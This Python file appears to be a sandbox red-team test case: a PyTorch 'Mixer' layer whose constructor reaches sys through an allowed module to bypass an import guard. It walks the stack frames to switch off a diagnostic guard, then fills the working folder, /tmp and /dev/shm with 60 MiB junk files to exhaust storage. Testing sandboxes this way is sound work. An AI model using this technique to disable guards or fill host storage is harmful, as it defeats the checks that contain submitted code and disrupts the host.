"""Attack class: filling the host's storage (only a per-file size limit used to exist): 8 files of
60 MiB in the working folder, /tmp and /dev/shm."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        bi = sys.modules["builtins"]
        chunk = b"x" * (60 * 1024 * 1024)
        written = 0
        for folder in (".", "/tmp", "/dev/shm"):
            for i in range(8):
                try:
                    with bi.open(f"{folder}/fill_{i}.bin", "wb") as fh:
                        fh.write(chunk)
                    written += 1
                except Exception as exc:
                    print("blocked", folder, i, type(exc).__name__)
                    break
        print("filled", written)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
